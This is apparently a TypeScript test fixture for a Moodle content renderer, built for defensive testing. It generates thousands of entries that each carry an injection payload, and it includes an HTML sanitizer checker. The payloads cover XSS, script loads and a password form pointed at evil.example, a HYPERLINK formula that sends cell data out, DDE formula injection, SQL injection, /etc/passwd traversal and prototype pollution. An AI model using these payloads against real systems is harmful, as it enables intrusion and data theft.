/** Sheets as nobody should write them: every attack in every field of the three families. */
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { FAMILIES, type Family, type FieldSpec, FIELDS } from '../../src/features/content/field.ts';
import type { Entry } from '../../src/features/content/reading.ts';

/** What stands in the field; a text that no person types, or types to see what happens. */
const ATTACKS: Readonly<Record<string, string>> = {
  'script element': '<script>alert(1)</script>CAF',
  'script in pieces': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT >',
  handler: '<p onclick="alert(1)" onmouseover=alert(2)>CAF</p>',
  'handler of an image': '<img src=x onerror=alert(1)//><img src="x` `onerror=alert(1)">',
  'handler behind a slash': '<a/onclick=alert(1)/href=x>CAF</a>',
  'style attribute':
    '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">CAF</p>',
  'style element': '<style>@import "//evil.example/x.css";body{display:none}</style>CAF',
  'css expression': '<div style="width:expression(alert(1));-moz-binding:url(x)">CAF</div>',
  svg: '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a></svg>',
  'svg that holds html': '<svg><foreignObject><iframe src="javascript:alert(1)"></foreignObject>',
  mathml:
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'mathml that changes meaning':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'noscript that changes meaning': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'template element': '<template><script>alert(1)</script></template>CAF',
  'data link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">CAF</a>',
  'data address': 'data:text/html,<script>alert(1)</script>',
  'javascript link': '<a href="javascript:alert(1)">CAF</a>',
  'javascript in entities': '<a href="&#106;ava&Tab;script&colon;alert(1)">CAF</a>',
  'javascript address': 'javascript:alert(1)',
  'javascript as a comment': 'javascript://caf.fr/%0Aalert(1)',
  'vbscript address': 'vbscript:msgbox(1)',
  frame: '<iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=x></frameset>',
  'object and embed': '<object data=x.swf></object><embed src=x><applet code=x></applet>',
  form: '<form action=//evil.example><input name=password><button formaction=x>OK</button></form>',
  'base and meta':
    '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  'open elements': '<p><strong><a href="https://caf.fr"><ul><li><table><tr><td>CAF',
  'closing elements': '</p></div></body></html></script>--></style>CAF',
  comment: '<!--[if IE]><script>alert(1)</script><![endif]-->CAF<!-- -- > <!--',
  cdata: '<![CDATA[<script>alert(1)</script>]]>CAF',
  php: '<?php system("id"); ?>CAF<% x %>',
  'an id of ours': '<div id="mara-sheet-1" class="mara-sheet card">CAF</div><p id="login">x</p>',
  'a class of Moodle': '<p class="modal fade show d-block fixed-top">CAF</p>',
  'a place of ours': '<a href="#mara-sheet-1">CAF</a><a name="mara-contents">x</a>',
  formula: '=1+1',
  'formula that calls': '=HYPERLINK("http://evil.example?x="&A1;"CAF")',
  'formula with an at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'formula with a plus': "+cmd|' /C calc'!A0",
  'formula with a minus': "-2+3+cmd|' /C calc'!A0",
  'formula behind a tab': '\t=1+1',
  'mail in Cyrillic': 'соntact@caf.fr',
  'mail of a Cyrillic domain': 'contact@саf.fr',
  'mail with a wide at': 'contact＠caf.fr',
  'mail in punycode': 'contact@xn--80ak6aa92e.com',
  'mail with two ats': 'contact@caf.fr@evil.example',
  'mail with headers': 'contact@caf.fr?bcc=all@evil.example&body=x',
  'mail with a line break': 'contact@caf.fr\r\nBcc: all@evil.example',
  'mail with a dot behind': 'contact@caf.fr.',
  'mail in quotes': '"<script>alert(1)</script>"@caf.fr',
  'address in Cyrillic': 'https://саf.fr/',
  'address with a password': 'https://caf.fr:secret@evil.example/',
  'address of this machine': 'http://localhost:8080/admin',
  'address of a file': 'file:///etc/passwd',
  'right-to-left override': '\u202Egnp.exe\u202C CAF \u2066x\u2069',
  'right-to-left text': 'مرحبا بكم CAF שלום',
  'nothing to see': '\u200B\u200C\u200D\u2060\uFEFF',
  'zero width within': 'C\u200BA\u200DF\u2060',
  'control characters': 'C\u0001A\u0008F\u001B[31m\u007F\u0085',
  NUL: 'C\u0000AF\u0000',
  'half a surrogate': 'C\uD83DAF\uDE00',
  'not a character': 'C\uFFFEAF\uFFFF',
  'a heap of accents': `C${'\u0301'.repeat(500)}AF`,
  'many emoji': '👨‍👩‍👧‍👦'.repeat(200),
  'impossible date': '2026-02-30',
  'impossible date in words': '31 février 2027',
  'date far off': '275760-09-14',
  'invented commune': 'Trifouilly-les-Oies-sur-Rien',
  'postcode of nowhere': '00000',
  'prototype name': '__proto__',
  constructor: 'constructor',
  'method name': 'toString',
  'prototype in JSON': '{"__proto__":{"polluted":true}}',
  braces: '{{constructor.constructor "return process"}}',
  'three braces': '{{{../../fields}}}{{#each this}}{{/each}}',
  'message within': '$t(content.unreadable) {{sheet}} $& $1 $` %s ${process.env}',
  'Moodle filters': '{mlang fr}CAF{mlang}[[CAF]] $$\\input{/etc/passwd}$$ {{GENERICO:type="x"}}',
  'Moodle file': '@@PLUGINFILE@@/x.png $@QUIZVIEWBYID*1@$ {filedir}',
  sql: "'; DROP TABLE mdl_data_records; --",
  path: '../../../../etc/passwd\u0000.png',
  'one endless word': 'a'.repeat(5000),
  'many spaces': ' '.repeat(5000),
  'many mails': 'a@b.fr;'.repeat(500),
  'many numbers': '02 41 23 57 57 / '.repeat(100),
  'regular expression': `${'a-'.repeat(5000)}@${'a-'.repeat(5000)}`,
};

/** What is told and what it costs: kept few, for each is a million characters. */
const HEAVY: Readonly<Record<string, string>> = {
  '1 MB of words': 'CAF '.repeat(262_144),
  '1 MB of markup': '<b>é'.repeat(262_144),
  '10,000 levels': `${'<div>'.repeat(10_000)}CAF`,
  '10,000 lists': `${'<ul><li>'.repeat(10_000)}CAF`,
};

const SOUND: Readonly<Record<Family, Readonly<Record<string, string>>>> = {
  living_area: { name: 'CAF', category: 'Bailleur', state: 'À publier' },
  job_market: { name: 'CAF', kind: 'Employeur', state: 'À publier' },
  opening: { title: 'CAF', diffusion: 'Ouverte', state: 'À publier' },
};

export type HostileSheet = {
  family: Family;
  /** The name of the attack, and the field it is in. */
  attack: string;
  field: string;
  entry: Entry;
};

let ids = 0;
const hostile = (
  family: Family,
  attack: string,
  field: string,
  fields: Entry['fields'],
): HostileSheet => {
  const id = ++ids;
  const url = `https://moodle.example/mod/data/view.php?d=3&rid=${id}`;
  return { family, attack, field, entry: { id, approved: true, url, oversize: null, fields } };
};

const inField = (family: Family, { code }: FieldSpec, [attack, text]: [string, string]) =>
  hostile(family, attack, code, { ...SOUND[family], [code]: text });

/** Names that objects have anyway, as codes of fields. */
const polluted = (family: Family): HostileSheet =>
  hostile(
    family,
    'names of objects as codes',
    '__proto__',
    JSON.parse(
      JSON.stringify({ ...SOUND[family], constructor: 'x', toString: 'x', hasOwnProperty: 'x' })
        // Written in JSON it is a key of its own, as a database would give it.
        .replace('{', '{"__proto__":{"polluted":true,"name":"x"},'),
    ) as Record<string, string>,
  );

const everywhere = (family: Family, attack: [string, string]): HostileSheet =>
  hostile(family, attack[0], 'all', {
    ...Object.fromEntries(FIELDS[family].map(({ code }) => [code, attack[1]])),
    ...SOUND[family],
  });

/** Some 5,000 entries; the same ones each time, but for their ids. */
export const hostileSheets = (): HostileSheet[] =>
  FAMILIES.flatMap((family) => [
    ...FIELDS[family].flatMap((field) =>
      Object.entries(ATTACKS).map((attack) => inField(family, field, attack)),
    ),
    ...Object.entries(HEAVY).map((attack) => everywhere(family, attack)),
    polluted(family),
    hostile(family, 'no fields', 'none', {}),
    hostile(family, 'fields that cannot be read', 'none', null),
  ]);

const parser = unified().use(rehypeParse, { fragment: true });
const ELEMENTS = new Set(
  'a abbr br em span strong div p h2 h3 h4 ul ol dl table li dt dd caption thead tbody tr th td'.split(
    ' ',
  ),
);
const LINK =
  /^(?:https?:\/\/(?!localhost)[a-z0-9.-]+(?::\d+)?(?:[/?#]|$)|mailto:[\w.+'-]+@[a-z0-9.-]+$)/i;
const OURS = /^mara-[a-z0-9-]+$/;

type Rules = { ids: boolean };

const problemWith = (name: string, value: unknown, { ids: own }: Rules): boolean => {
  if (name === 'href') {
    const link = String(value);
    return !(LINK.test(link) || (own && link.startsWith('#') && OURS.test(link.slice(1))));
  }
  if (name === 'id') return !own || !OURS.test(String(value));
  if (name === 'className') return !own && !String(value).startsWith('table');
  return !['title', 'dir', 'scope', 'colSpan', 'rowSpan'].includes(name);
};

type Node = ReturnType<typeof parser.parse> | ReturnType<typeof parser.parse>['children'][number];

/** Elements, attributes and links that may not be; `ids`: the HTML is a page of ours. */
export const unsafeIn = (html: string, rules: Rules = { ids: false }): string[] => {
  const walk = (node: Node): string[] => {
    if (node.type === 'text') return [];
    if (node.type === 'root') return node.children.flatMap(walk);
    if (node.type !== 'element') return [node.type];
    const attributes = Object.entries(node.properties).flatMap(([name, value]) =>
      problemWith(name, value, rules) ? [`${node.tagName} ${name}=${String(value)}`] : [],
    );
    const own = ELEMENTS.has(node.tagName) ? [] : [node.tagName];
    return [...own, ...attributes, ...node.children.flatMap(walk)];
  };
  return walk(parser.parse(html));
};

/** What no text for people may hold: what is not shown, and what turns the words around it. */
export const UNSEEN = /(?![\t\n\r])[\p{Cc}\p{Cs}\uFFFE\uFFFF\u202A-\u202E\u2066-\u2069]/u;
